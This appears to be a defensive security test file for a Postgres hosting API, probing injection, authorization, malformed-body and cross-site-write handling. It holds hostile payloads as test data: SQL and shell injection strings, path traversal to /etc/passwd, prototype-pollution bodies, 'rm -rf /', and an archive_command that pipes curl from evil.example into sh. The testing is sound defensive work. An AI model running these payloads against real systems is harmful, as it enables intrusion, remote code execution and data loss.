// Hostile input through the API: injection in names, settings and paths, odd bodies, every route
// with the wrong kind of caller, and cross-site writes with a session cookie.
import { ROUTES } from "@pgaas/api";
import { errorCode, type RawReply, rawRequest } from "./http.js";
import { clean, escalation, failure, type Probe, type Verdict } from "./probe.js";
import { type Credential, call, type Target } from "./target.js";

const EVIL = "https://evil.example";
/** Markers of a file that must never be served (the host's passwords, the repo's sources). */
const LEAK_MARKERS = ["root:x:0:0", '"name": "pgaas"', "import {", "PGAAS_SECRET_KEY"];

const describe = (reply: RawReply) => `${reply.status} ${reply.text.slice(0, 160)}`;

/** Refused with a 4xx: clean; accepted: `onAccepted`; a server error: failure. */
function refused(reply: RawReply, onAccepted: (detail: string) => Verdict, allowed = [400]): Verdict {
  if (allowed.includes(reply.status)) return clean();
  if (reply.status >= 200 && reply.status < 300) return onAccepted(`accepted: ${describe(reply)}`);
  return failure(`unexpected answer: ${describe(reply)}`);
}

const HOSTILE_NAMES = [
  'a"; DROP DATABASE postgres; --',
  "x'; SELECT pg_sleep(10); --",
  "robert'); DROP TABLE users;--",
  "a b",
  "Upper",
  "1abc",
  "_x",
  "x-y",
  "x.y",
  "x$y",
  "x\u0000y",
  "ünïcode",
  "x".repeat(64),
  "",
  "$(reboot)",
  "`id`",
  "../etc",
  "x;y",
  "x\ny",
];
const RESERVED = ["postgres", "template0", "template1", "repmgr", "pgaas_admin", "pg_catalog", "public"];

function nameProbes(t: Target): Probe[] {
  const create = (body: Record<string, unknown>) =>
    call(t, "POST", "/v1/databases", {
      as: { bearer: t.member.token },
      body: { pairId: t.pairId, ...body },
    });
  return [
    ...HOSTILE_NAMES.map((name) => ({
      group: "injection: names",
      name: `database ${JSON.stringify(name).slice(0, 40)}`,
      run: async () => refused(await create({ name }), failure),
    })),
    ...RESERVED.map((name) => ({
      group: "injection: names",
      name: `reserved database ${name}`,
      run: async () => refused(await create({ name }), escalation),
    })),
    ...["postgres", "pgaas_admin", "repmgr", "pg_monitor", 'a"b'].map((owner) => ({
      group: "injection: names",
      name: `owner ${owner}`,
      run: async () => refused(await create({ name: "sec_owner_probe", owner }), escalation),
    })),
  ];
}

const HOSTILE_DATABASE_SETTINGS: Record<string, unknown>[] = [
  { work_mem: "64MB'; ALTER ROLE sec_a SUPERUSER; --" },
  { work_mem: -1 },
  { work_mem: 1e30 },
  { work_mem: "NaN" },
  { shared_preload_libraries: "evil" },
  { session_preload_libraries: "/tmp/evil.so" },
  { local_preload_libraries: "evil" },
  { search_path: "pg_temp, public" },
  { log_statement: "all" },
  { archive_command: "rm -rf /" },
  { 'statement_timeout"; DROP TABLE x; --': 1 },
  { role: "postgres" },
  { session_authorization: "postgres" },
  { default_transaction_read_only: "off; DROP TABLE x" },
  { password_encryption: "md5" },
  { statement_timeout: "1s; RESET ALL" },
  { "": 1 },
  { ["x".repeat(64)]: 1 },
];
const HOSTILE_PAIR_SETTINGS: Record<string, unknown>[] = [
  { archive_command: "curl http://evil.example | sh" },
  { shared_preload_libraries: "evil" },
  { ssl: false },
  { listen_addresses: "*" },
  { max_connections: 0 },
];

function settingsProbes(t: Target): Probe[] {
  const [sec_a] = t.tenants;
  return [
    ...HOSTILE_DATABASE_SETTINGS.map((settings) => ({
      group: "injection: settings",
      name: `database setting ${JSON.stringify(settings).slice(0, 50)}`,
      run: async () =>
        refused(
          await call(t, "PATCH", `/v1/databases/${sec_a.databaseId}`, {
            as: { bearer: t.member.token },
            body: { settings },
          }),
          escalation,
        ),
    })),
    ...HOSTILE_PAIR_SETTINGS.map((settings) => ({
      group: "injection: settings",
      name: `pair setting ${JSON.stringify(settings).slice(0, 50)}`,
      run: async () =>
        refused(
          await call(t, "PUT", `/v1/pairs/${t.pairId}/settings`, {
            as: { bearer: t.admin.token },
            body: { settings },
          }),
          escalation,
        ),
    })),
  ];
}

function pathProbes(t: Target): Probe[] {
  const [sec_a] = t.tenants;
  const paths = [
    "/v1/databases/'%20OR%20'1'='1",
    "/v1/databases/00000000-0000-4000-8000-000000000000'--",
    "/v1/pairs/..%2f..%2fusers",
    "/v1/pairs/%00",
    `/v1/reports/databases/${sec_a.databaseId}?from=1'%20OR%201=1`,
    "/v1/databases?pairId='%20OR%201=1",
    `/v1/pairs/${t.pairId}/events?limit=-1`,
    `/v1/pairs/${t.pairId}/events?limit=99999999999999999999`,
    `/v1/databases/${"a".repeat(5000)}`,
    "/docs/assets/..%2f..%2f..%2fpackage.json",
    "/docs/assets/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/assets/../../../../etc/passwd",
    "/..%2f..%2f..%2fetc%2fpasswd",
    "/%2e%2e/%2e%2e/scripts/stack/index.ts",
    "/docs/assets/../../../../../../etc/passwd",
  ];
  return paths.map((path) => ({
    group: "injection: paths",
    name: path.slice(0, 60),
    run: async () => {
      const reply = await rawRequest(`${t.url}${path}`, {
        headers: { authorization: `Bearer ${t.member.token}` },
        ca: t.ca,
      });
      const leak = LEAK_MARKERS.find((marker) => reply.text.includes(marker));
      if (leak !== undefined) return escalation(`served a file (${leak}): ${reply.status}`);
      if (reply.status >= 500) return failure(`server error: ${describe(reply)}`);
      return clean();
    },
  }));
}

function bodyProbes(t: Target): Probe[] {
  const login = `${t.url}/v1/auth/login`;
  const json = { "content-type": "application/json" };
  const raw = (body: string, headers: Record<string, string> = json) =>
    rawRequest(login, { method: "POST", headers, body, ca: t.ca });
  const expect4xx = async (reply: Promise<RawReply>, codes: number[]) => {
    const answer = await reply;
    if (codes.includes(answer.status) && errorCode(answer) !== undefined) return clean();
    if (answer.status >= 200 && answer.status < 300) return escalation(`accepted: ${describe(answer)}`);
    return failure(`unexpected answer: ${describe(answer)}`);
  };
  const memberIsAdmin = async () =>
    (await call(t, "GET", "/v1/users", { as: { bearer: t.member.token } })).status === 200;
  return [
    { name: "invalid JSON", run: () => expect4xx(raw("{"), [400]) },
    {
      name: "2 MB body",
      run: () => expect4xx(raw(JSON.stringify({ email: "a@b.c", password: "x".repeat(2_000_000) })), [413]),
    },
    {
      name: "100 000 nested arrays",
      run: () => expect4xx(raw(`${"[".repeat(100_000)}${"]".repeat(100_000)}`), [400]),
    },
    { name: "array body", run: () => expect4xx(raw("[]"), [400]) },
    { name: "null body", run: () => expect4xx(raw("null"), [400]) },
    { name: "string body", run: () => expect4xx(raw('"admin"'), [400]) },
    {
      name: "operator object as email",
      run: () => expect4xx(raw('{"email":{"$ne":null},"password":"x"}'), [400]),
    },
    {
      name: "UTF-16 charset",
      run: () =>
        expect4xx(
          raw('{"email":"a@b.c"}', { "content-type": "application/json; charset=utf-16" }),
          [400, 415],
        ),
    },
    {
      name: "RTL override in email",
      run: () =>
        expect4xx(raw(JSON.stringify({ email: "adm\u202Enimgpaas@x.io", password: "x" })), [400, 401]),
    },
    {
      name: "10 000 settings keys",
      run: () =>
        expect4xx(
          call(t, "PATCH", `/v1/databases/${t.tenants[0].databaseId}`, {
            as: { bearer: t.member.token },
            body: { settings: Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`k${i}`, i])) },
          }),
          [400, 413],
        ),
    },
    {
      name: "501 reports in one batch",
      run: () =>
        expect4xx(
          call(t, "POST", "/v1/agent/report", {
            as: { bearer: t.agentTokens.n1 ?? "" },
            body: { reports: Array.from({ length: 501 }, () => ({ kind: "state" })) },
          }),
          [400],
        ),
    },
    {
      name: "__proto__ role on a token body, then an admin route",
      run: async () => {
        await call(t, "POST", "/v1/tokens", {
          as: { bearer: t.member.token },
          body: JSON.parse('{"name":"proto-probe","__proto__":{"role":"admin"}}'),
        });
        return (await memberIsAdmin()) ? escalation("the member reached an admin route") : clean();
      },
    },
    {
      name: "constructor.prototype role on login, then an admin route",
      run: async () => {
        await raw('{"email":"a@b.c","password":"x","constructor":{"prototype":{"role":"admin"}}}');
        return (await memberIsAdmin()) ? escalation("the member reached an admin route") : clean();
      },
    },
    {
      name: "duplicate role keys in createUser as member",
      run: async () =>
        refused(
          await call(t, "POST", "/v1/users", {
            as: { bearer: t.member.token },
            body: '{"email":"dup@x.io","password":"dup-password-123","role":"member","role":"admin"}',
            headers: { "content-type": "application/json" },
          }),
          escalation,
          [403],
        ),
    },
  ].map((probe) => ({ group: "odd bodies", ...probe }));
}

/** Real ids in paths, so an escalation would act on something real (and show as such). */
function pathFor(path: string, t: Target): string {
  if (path.startsWith("/v1/pairs/") || path.startsWith("/v1/reports/pairs/"))
    return path.replace(":id", t.pairId);
  if (path.startsWith("/v1/databases/") || path.startsWith("/v1/reports/databases/"))
    return path.replace(":id", t.tenants[1].databaseId);
  return path.replace(":id", "00000000-0000-4000-8000-000000000000");
}

function authProbes(t: Target): Probe[] {
  const routes = ROUTES.filter((route) => route.auth !== "public");
  const attempt =
    (route: (typeof routes)[number], as: Credential, expected: number) => async (): Promise<Verdict> => {
      const reply = await call(t, route.method.toUpperCase(), pathFor(route.path, t), {
        as,
        ...(route.method === "get" ? {} : { body: {} }),
      });
      if (reply.status === expected) return clean();
      if (reply.status >= 500) return failure(`server error: ${describe(reply)}`);
      return escalation(`passed the authorization check: ${describe(reply)}`);
    };
  const probes: Probe[] = [];
  for (const route of routes) {
    probes.push({ group: "auth: anonymous", name: route.id, run: attempt(route, undefined, 401) });
    if (route.auth !== "agent") {
      probes.push({
        group: "auth: agent token on user routes",
        name: route.id,
        run: attempt(route, { bearer: t.agentTokens.n1 ?? "" }, 403),
      });
    } else {
      probes.push({
        group: "auth: user token on agent routes",
        name: route.id,
        run: attempt(route, { bearer: t.admin.token }, 403),
      });
    }
    if (route.auth === "admin") {
      probes.push({
        group: "auth: member on admin routes",
        name: `${route.id} (API token)`,
        run: attempt(route, { bearer: t.member.token }, 403),
      });
      probes.push({
        group: "auth: member on admin routes",
        name: `${route.id} (cookie)`,
        run: attempt(route, { cookie: t.member.cookie }, 403),
      });
    }
  }
  const me = routes.find((route) => route.id === "me");
  if (me === undefined) throw new Error("the me route is missing");
  const forged: [string, Credential | Record<string, string>][] = [
    ["random API token", { bearer: `pgaas_api_${"A".repeat(43)}` }],
    ["random agent token", { bearer: `pgaas_agent_${"A".repeat(43)}` }],
    ["forged session cookie", { cookie: `pgaas_session=pgaas_sess_${"A".repeat(43)}` }],
    ["SQL in a bearer token", { bearer: "'OR'1'='1" }],
  ];
  for (const [name, as] of forged) {
    probes.push({ group: "auth: forged credentials", name, run: attempt(me, as as Credential, 401) });
  }
  probes.push({
    group: "auth: forged credentials",
    name: "a deleted API token",
    run: async () => {
      const made = await call(t, "POST", "/v1/tokens", {
        as: { bearer: t.member.token },
        body: { name: "to-delete" },
      });
      const { token, secret } = made.json as { token: { id: string }; secret: string };
      await call(t, "DELETE", `/v1/tokens/${token.id}`, { as: { bearer: t.member.token } });
      return attempt(me, { bearer: secret }, 401)();
    },
  });
  for (const [name, method, path] of [
    ["read the admin's database", "GET", `/v1/databases/${t.tenants[1].databaseId}`],
    [
      "report on the admin's database",
      "GET",
      `/v1/reports/databases/${t.tenants[1].databaseId}?from=${encodeURIComponent(new Date(Date.now() - 3600_000).toISOString())}&to=${encodeURIComponent(new Date().toISOString())}`,
    ],
    ["change the admin's database", "PATCH", `/v1/databases/${t.tenants[1].databaseId}`],
    ["delete the admin's database", "DELETE", `/v1/databases/${t.tenants[1].databaseId}`],
    // A restore hands the caller a copy under a role of their own: the same wall as reading it.
    ["restore the admin's database", "POST", `/v1/databases/${t.tenants[1].databaseId}/restore`],
    // Statement texts can carry a tenant's schema and habits: the same wall as reading the database.
    ["read the admin's database's statements", "GET", `/v1/databases/${t.tenants[1].databaseId}/insights`],
  ] as const) {
    probes.push({
      group: "auth: another tenant's database",
      name,
      run: async () => {
        const reply = await call(t, method, path, {
          as: { bearer: t.member.token },
          ...(method === "PATCH"
            ? { body: { connectionLimit: 1 } }
            : method === "DELETE"
              ? { body: { confirm: "sec_b" } }
              : method === "POST"
                ? { body: { newName: "sec_stolen" } }
                : {}),
        });
        if ([403, 404].includes(reply.status)) return clean();
        if (reply.status >= 500) return failure(`server error: ${describe(reply)}`);
        return escalation(`reached another tenant's database: ${describe(reply)}`);
      },
    });
  }
  return probes;
}

function crossSiteProbes(t: Target): Probe[] {
  const { port, protocol } = new URL(t.url);
  const otherScheme = protocol === "https:" ? "http:" : "https:";
  const write = (
    cookie: string,
    method: string,
    path: string,
    headers: Record<string, string>,
    body: string,
  ) => rawRequest(`${t.url}${path}`, { method, headers: { cookie, ...headers }, body, ca: t.ca });
  const tokenCount = async () =>
    (
      (await call(t, "GET", "/v1/tokens", { as: { bearer: t.member.token } })).json as {
        tokens: unknown[];
      }
    ).tokens.length;
  const mustRefuse = (name: string, send: () => Promise<RawReply>): Probe => ({
    group: "cross-site writes",
    name,
    run: async () => refused(await send(), escalation, [403]),
  });
  const m = t.member.cookie;
  const a = t.admin.cookie;
  const tokenBody = JSON.stringify({ name: "planted-by-evil" });
  let before = 0;
  return [
    {
      group: "cross-site writes",
      name: "(count the member's tokens)",
      run: async () => {
        before = await tokenCount();
        return clean();
      },
    },
    mustRefuse("text/plain form post, evil Origin", () =>
      write(m, "POST", "/v1/tokens", { origin: EVIL, "content-type": "text/plain" }, tokenBody),
    ),
    mustRefuse("urlencoded form post, evil Origin", () =>
      write(
        m,
        "POST",
        "/v1/tokens",
        { origin: EVIL, "content-type": "application/x-www-form-urlencoded" },
        "name=planted",
      ),
    ),
    mustRefuse("multipart form post, evil Origin", () =>
      write(
        m,
        "POST",
        "/v1/tokens",
        { origin: EVIL, "content-type": "multipart/form-data; boundary=x" },
        '--x\r\nContent-Disposition: form-data; name="name"\r\n\r\nplanted\r\n--x--\r\n',
      ),
    ),
    mustRefuse("text/plain with neither Origin nor Sec-Fetch-Site", () =>
      write(m, "POST", "/v1/tokens", { "content-type": "text/plain" }, tokenBody),
    ),
    mustRefuse("JSON, evil Origin", () =>
      write(m, "POST", "/v1/tokens", { origin: EVIL, "content-type": "application/json" }, tokenBody),
    ),
    mustRefuse("JSON, Origin null (sandboxed frame)", () =>
      write(m, "POST", "/v1/tokens", { origin: "null", "content-type": "application/json" }, tokenBody),
    ),
    mustRefuse("JSON, Sec-Fetch-Site cross-site", () =>
      write(
        m,
        "POST",
        "/v1/tokens",
        { "sec-fetch-site": "cross-site", "content-type": "application/json" },
        tokenBody,
      ),
    ),
    mustRefuse("JSON, Sec-Fetch-Site same-site (a sibling subdomain)", () =>
      write(
        m,
        "POST",
        "/v1/tokens",
        { "sec-fetch-site": "same-site", "content-type": "application/json" },
        tokenBody,
      ),
    ),
    mustRefuse("JSON, Origin on another port", () =>
      write(
        m,
        "POST",
        "/v1/tokens",
        { origin: `${protocol}//127.0.0.1:${Number(port) + 1}`, "content-type": "application/json" },
        tokenBody,
      ),
    ),
    mustRefuse("JSON, Origin with another scheme", () =>
      write(
        m,
        "POST",
        "/v1/tokens",
        { origin: `${otherScheme}//127.0.0.1:${port}`, "content-type": "application/json" },
        tokenBody,
      ),
    ),
    mustRefuse("text/plain from the same origin", () =>
      write(m, "POST", "/v1/tokens", { origin: t.url, "content-type": "text/plain" }, tokenBody),
    ),
    mustRefuse("admin: create an admin user by text/plain form", () =>
      write(
        a,
        "POST",
        "/v1/users",
        { origin: EVIL, "content-type": "text/plain" },
        JSON.stringify({ email: "evil@x.io", password: "evil-password-123", role: "admin" }),
      ),
    ),
    mustRefuse("admin: pair settings by urlencoded form", () =>
      write(
        a,
        "PUT",
        `/v1/pairs/${t.pairId}/settings`,
        { origin: EVIL, "content-type": "application/x-www-form-urlencoded" },
        "settings=x",
      ),
    ),
    mustRefuse("member: delete a database by cross-site DELETE", () =>
      write(
        m,
        "DELETE",
        `/v1/databases/${t.tenants[0].databaseId}`,
        { origin: EVIL, "content-type": "text/plain" },
        '{"confirm":"sec_a"}',
      ),
    ),
    mustRefuse("sign-in forced from another site (no cookie)", () =>
      rawRequest(`${t.url}/v1/auth/login`, {
        method: "POST",
        headers: { origin: EVIL, "content-type": "application/json" },
        body: JSON.stringify({ email: t.member.email, password: t.member.password }),
        ca: t.ca,
      }),
    ),
    {
      group: "cross-site writes",
      name: "no token was planted",
      run: async () => {
        const after = await tokenCount();
        return after === before ? clean() : escalation(`the member's tokens went from ${before} to ${after}`);
      },
    },
  ];
}

/**
 * The API over plain HTTP: the stack must serve HTTPS, and its port must not answer an http://
 * request carrying a bearer token (the token itself stays a made-up one: it never goes out in clear).
 */
function plaintextProbes(t: Target): Probe[] {
  return [
    {
      group: "plaintext",
      name: "API over http:// with a bearer token",
      run: async () => {
        if (!t.url.startsWith("https://")) return clean(true);
        const plain = t.url.replace(/^https:/, "http:");
        const reply = await call({ url: plain }, "GET", "/v1/auth/me", {
          as: { bearer: `pgaas_api_${"B".repeat(43)}` },
        }).catch(() => undefined);
        // Any HTTP answer means the request was read in clear; the TLS port just drops the connection.
        return clean(reply !== undefined);
      },
    },
  ];
}

export function apiProbes(t: Target): Probe[] {
  return [
    ...nameProbes(t),
    ...settingsProbes(t),
    ...pathProbes(t),
    ...bodyProbes(t),
    ...authProbes(t),
    ...crossSiteProbes(t),
    ...plaintextProbes(t),
  ];
}
